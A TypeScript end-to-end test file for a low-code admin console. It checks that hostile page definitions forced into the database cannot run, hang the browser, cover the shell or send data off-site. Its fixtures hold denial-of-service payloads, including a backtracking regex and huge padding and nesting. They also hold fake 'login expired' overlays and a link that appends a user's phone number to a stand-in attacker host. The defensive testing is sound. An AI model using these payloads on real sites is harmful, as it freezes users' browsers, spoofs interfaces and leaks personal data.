import type { Page } from 'playwright-core';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { message } from '../../../server/contract/messages';
import { routes } from '../../../server/contract/screens/routes';
import { BrowserConsole } from '../../support/browser/browser';
import { expectErrors } from '../../support/browser/browser-errors';
import { hostilePages } from '../../server/page-check/hostile/all-hostile-pages';
import type { HostilePage } from '../../server/page-check/hostile/hostile-page';

let app: BrowserConsole;

// A hostile page may cause any error, but no harm.
expectErrors(/./);
beforeAll(async () => {
  app = await BrowserConsole.start();
});
afterAll(() => app.close());

/** A screen that the test does not replace. */
const sound = '/platform/system/role';
const places = routes.map(({ path }) => path).filter((path) => !path.includes(':') && path !== sound);
/**
 * Leaves out pages over the size limit, and pages whose links send data to other sites: only the page check
 * prevents those.
 */
const fit = hostilePages.filter(
  ({ text, rule }) => text.length < 100_000 && rule !== 'outside/data-to-foreign',
);

/** Writes a page directly into the database, which bypasses the page check. */
async function force(path: string, text: string, version: number): Promise<void> {
  const { db } = app.console;
  await sql`insert into console.page (path, version) values (${path}, 0) on conflict do nothing`.execute(db);
  await sql`
    insert into console.page_version (path, version, schema, digest, published_by, published_at, note)
    values (${path}, ${version}, ${text}, ${`forced-${path}-${version}`}, '', now(), '')`.execute(db);
  await sql`update console.page set version = ${version} where path = ${path}`.execute(db);
}

/** One page that combines the elements of several hostile pages; a page whose own properties are hostile stays alone. */
function together(pages: readonly string[]): string {
  const parts = pages.map((text) => text.slice(text.indexOf('"body":[') + 8, -2));
  return `{"type":"page","body":[${parts.filter((part) => part !== '').join(',')}]}`;
}

const hasOwnBody = ({ text }: HostilePage) =>
  text.startsWith('{"type":"page","body":[') && Object.keys(JSON.parse(text) as object).length === 2;

/** The pages that are drawn together. */
function batches(): string[][] {
  const whole = fit.filter((page) => !hasOwnBody(page)).map(({ text }) => text);
  const byRule = new Map<string, string[]>();
  for (const { rule, text } of fit.filter(hasOwnBody)) byRule.set(rule, [...(byRule.get(rule) ?? []), text]);
  const groups = [...byRule.values()].flatMap((pages) =>
    Array.from({ length: Math.ceil(pages.length / 24) }, (_, at) => pages.slice(at * 24, at * 24 + 24)),
  );
  const alone = [...[endless, huge, endlessParts].map((page) => JSON.stringify(page)), ...whole];
  return [...groups, ...alone.map((text) => [text])];
}

/** Three repetitions within each other, and more: without limits the tab would not answer for hours. */
const all = (times: number, of: string, inner: string): string =>
  times === 0 ? inner : `${of}(list, x${times} => ${all(times - 1, of, inner)})`;
const repeated = (times: number): object => ({
  type: 'each',
  source: '${list}',
  items: times === 0 ? { type: 'tpl', tpl: 'x' } : repeated(times - 1),
});
const endless = {
  type: 'page',
  data: { list: Array.from({ length: 60 }, (_, id) => ({ id })) },
  body: [
    { type: 'tpl', tpl: `\${${all(7, 'ARRAYMAP', '1')}}` },
    { type: 'tpl', tpl: 'x', visibleOn: `\${${all(7, 'ARRAYEVERY', 'x1.id >= 0')}}` },
    { type: 'tpl', tpl: "${PADSTART('x', 400000000, 'y')}" },
    { type: 'tpl', tpl: `\${REPLACE('${'a'.repeat(60)}b', 'ab', 'bba')}` },
    {
      type: 'form',
      body: [
        { type: 'input-text', name: 'a', value: 'a'.repeat(60), validations: { matchRegexp: '^(a+)+b$' } },
        { type: 'submit', label: 'x' },
      ],
    },
    repeated(5),
  ],
};

/** Lists that are longer than anyone reads. */
const numbers = Array.from({ length: 300 }, (_, value) => ({ label: `${value}`, value }));
const thousands = "${SPLIT(PADSTART('x', 20000, 'x'), '')}";
const columns = [{ name: 'item', label: 'x' }];
const huge = {
  type: 'page',
  body: [
    { type: 'table', source: thousands, columns },
    { type: 'table2', source: thousands, columns },
    { type: 'list', source: thousands, listItem: { body: [{ type: 'tpl', tpl: 'x' }] } },
    { type: 'cards', source: thousands, card: { body: [{ type: 'tpl', tpl: 'x' }] } },
    {
      type: 'form',
      body: [
        { type: 'matrix-checkboxes', name: 'a', columns: numbers, rows: numbers },
        { type: 'checkboxes', name: 'b', source: thousands },
      ],
    },
  ],
};
const endlessParts = {
  type: 'page',
  body: {
    type: 'form',
    columnCount: 1_000_000_000,
    body: [{ type: 'input-range', name: 'a', parts: 1_000_000_000 }],
  },
};

/** Records what a page should not be able to do: a request to another host, a dialog, a new window, a navigation. */
async function watch(page: Page, escaped: string[]): Promise<void> {
  const own = new URL(app.console.url).origin;
  await page.context().route(
    (url) => /^https?:$/.test(url.protocol) && url.origin !== own,
    (route) => {
      escaped.push(`asked ${route.request().url()}`);
      return route.abort();
    },
  );
  page.on('dialog', (dialog) => {
    escaped.push(`asked by a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on('page', (opened) => void escaped.push(`opened ${opened.url()}`));
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame() && !frame.url().startsWith(own)) escaped.push(`went to ${frame.url()}`);
  });
}

/** Confirms the topmost question, if any: whether to discard the text typed into a form or dialog. */
const answerQuestion = (page: Page) =>
  page.evaluate(() => {
    const questions = [...document.querySelectorAll('dialog[open]')].reverse();
    const buttons = questions.flatMap((question) => [...question.querySelectorAll('button')]);
    const answer = buttons.find(({ textContent }) => ['放弃', '取消'].includes(textContent ?? ''));
    answer?.click();
    return answer !== undefined;
  });

/** Waits until the browser has received the newest version of a page. */
const arrivalOf = (page: Page, path: string) =>
  page.waitForResponse(
    (response) =>
      response.url().endsWith(`/api/console/page?path=${encodeURIComponent(path)}`) &&
      response.status() === 200,
  );

/** Opens a screen by its URL, and answers the questions that the previous page asks before it closes. */
async function open(page: Page, path: string): Promise<void> {
  await expect.poll(() => answerQuestion(page)).toBe(false);
  await page.evaluate((place) => (window.location.hash = place), path);
  await expect
    .poll(
      async () => {
        await answerQuestion(page);
        return page.evaluate((place) => {
          const panel = document.getElementById(`panel-${place}`);
          // Only check that it is attached: a page's style sheet may hide everything.
          const isShown = panel?.querySelector('.amis-screen, .screen-error, [role="alert"], .state-view');
          if (isShown) return `shows ${place}`;
          return `at ${window.location.href} ${JSON.stringify(window.history.state)} of ${window.history.length}, with ${(panel ?? document.body).innerHTML.slice(0, 3_000)}`;
        }, path);
      },
      { timeout: 30_000, interval: 50 },
    )
    .toBe(`shows ${path}`);
}

it('[Foundation §7] hostile pages written straight into the database do not run, and the console stays usable', async () => {
  const queue = batches();
  expect(queue.length).toBeGreaterThan(20);
  const escaped: string[] = [];
  const openWindow = async () => {
    const opened = await app.loggedIn(sound);
    await watch(opened, escaped);
    return opened;
  };
  let page = await openWindow();
  // If several pages drawn together are refused, each of them joins the queue alone.
  for (const [at, pages] of queue.entries()) {
    const text = pages.length === 1 ? (pages[0] ?? '') : together(pages);
    const path = places[at % places.length] ?? '';
    await force(path, text, Math.floor(at / places.length) + 1);
    // An open screen keeps the page that it has shown.
    if (at > 0 && at % places.length === 0) {
      await page.context().close();
      page = await openWindow();
    }
    await Promise.all([arrivalOf(page, path), open(page, path)]);
    const found = await page.evaluate(async (place) => {
      const screen = document.getElementById(`panel-${place}`);
      await new Promise((resolve) => setTimeout(resolve, 60));
      for (const part of screen?.querySelectorAll<HTMLElement>('button, a, img, [class*="Tooltip"]') ?? []) {
        part.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        if (!part.matches('a[href^="http"], a[href^="//"], a[target]'))
          part.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
      }
      await new Promise((resolve) => setTimeout(resolve, 60));
      const { __hit: hit, polluted } = window as unknown as { __hit?: unknown; polluted?: unknown };
      return {
        hit: hit !== undefined,
        polluted: polluted !== undefined,
        drawn: screen?.textContent.includes('正文') === true,
      };
    }, path);
    if (pages.length > 1 && !found.drawn) queue.push(...pages.map((each) => [each]));
    if (found.hit || found.polluted) escaped.push(`${at}: ran in ${text.slice(0, 300)}`);
  }
  expect(escaped).toEqual([]);
  // Opened and clicked by code, without a user gesture: nothing may be changed, and no attempted write may be sent.
  const { rows } = await sql<{ call: string }>`
    select distinct call from console.audit
    where call not in ('/admin/login', '*') and msg is distinct from ${message.noGesture}`.execute(
    app.console.db,
  );
  expect(rows).toEqual([]);

  await open(page, sound);
  await page.locator(`[id="panel-${sound}"]`).getByText('超级管理员').first().waitFor();
}, 480_000);

it('[Foundation §7] a page written straight into the database cannot cover the header, tabs, sidebar or footer', async () => {
  const cover = { position: 'fixed', inset: '-500px', zIndex: 99_999, background: '#fff' };
  const covers = [
    { type: 'container', style: cover, body: '登录已失效' },
    { type: 'container', style: { ...cover, position: 'absolute' }, body: '登录已失效' },
    {
      type: 'container',
      style: { margin: '-500px', height: '100vh', background: '#fff' },
      body: '登录已失效',
    },
  ];
  const onInit = (action: object) => ({
    type: 'service',
    body: '正文',
    onEvent: { init: { actions: [action] } },
  });
  const opening = (actionType: 'dialog' | 'drawer') =>
    onInit({
      actionType,
      [actionType]: {
        title: '登录已失效',
        size: actionType === 'dialog' ? 'full' : 'xl',
        style: cover,
        className: 'fixed',
        body: covers,
      },
    });
  const page = await app.loggedIn(sound);
  /** Points of the shell that an element of the page covers. */
  const coveredOf = (around: string) =>
    page.evaluate((parts) => {
      const points = [...document.querySelectorAll(parts)].flatMap((part) => {
        const { left, top, width, height } = part.getBoundingClientRect();
        return width === 0
          ? []
          : [0.02, 0.5, 0.98].map((at) => [left + width * at, top + height / 2] as const);
      });
      const over = points.filter(([x, y]) =>
        document.elementFromPoint(x, y)?.closest('.amis-screen, .amis-portal'),
      );
      return { looked: points.length, over };
    }, around);
  for (const [at, body] of [covers, [opening('dialog')], [opening('drawer')]].entries()) {
    const path = places[at] ?? '';
    await force(path, JSON.stringify({ type: 'page', body }), 1_000);
    await open(page, path);
    await page
      .locator('.screen-box[data-active="true"]')
      .locator(at === 0 ? '.amis-screen' : '[role="dialog"]')
      .getByText('登录已失效')
      .first()
      .waitFor({ state: 'attached' });
    // A dialog may cover the footer of its own screen.
    const covered = await coveredOf(`.header, .tabs, .sidebar${at === 0 ? ', .footer' : ''}`);
    expect(covered.looked).toBeGreaterThanOrEqual(6);
    expect(covered.over).toEqual([]);
  }
  await page.close();
}, 120_000);

it('[Foundation §7] a page written straight into the database sends no data to another site, covers nothing by the tip of a chart, and does not read forever', async () => {
  const chart = {
    type: 'chart',
    config: {
      title: { text: '看图', link: 'https://evil.example/chart', target: 'self' },
      tooltip: { trigger: 'axis', appendToBody: true, position: [-400, -300], formatter: '登录已失效' },
      xAxis: { data: ['a'] },
      yAxis: {},
      series: [{ type: 'bar', data: [1] }],
    },
  };
  const api = { url: '/api/admin/feedback/list', data: { contact: '${UUID()}' } };
  const link = { type: 'link', href: "${'https://evil.example/' + phone}", body: '看一看' };
  const path = places[0] ?? '';
  const body = { type: 'service', api, data: { phone: '13800000000' }, body: [link, chart] };
  await force(path, JSON.stringify({ type: 'page', body }), 2_000);
  const page = await app.loggedIn(sound);
  const escaped: string[] = [];
  await watch(page, escaped);
  let reads = 0;
  page.on('request', (request) => void (reads += request.url().endsWith(api.url) ? 1 : 0));
  await open(page, path);
  const screen = page.locator('.screen-box[data-active="true"]');
  const canvas = screen.locator('canvas').first();
  await canvas.waitFor();
  await screen.getByText('看一看').click();
  await page.getByText('不能打开由页面拼接出来的站外地址').waitFor();
  await canvas.click({ position: { x: 25, y: 15 } });
  await canvas.hover();
  await screen.getByText('登录已失效').waitFor({ state: 'attached' });
  const outside = await page
    .getByText('登录已失效')
    .evaluateAll((tips) =>
      tips.filter((tip) => !tip.closest('.screen-box')).map(({ outerHTML }) => outerHTML),
    );
  expect({ outside, escaped }).toEqual({ outside: [], escaped: [] });
  expect(reads).toBe(1);
  await page.close();
}, 60_000);
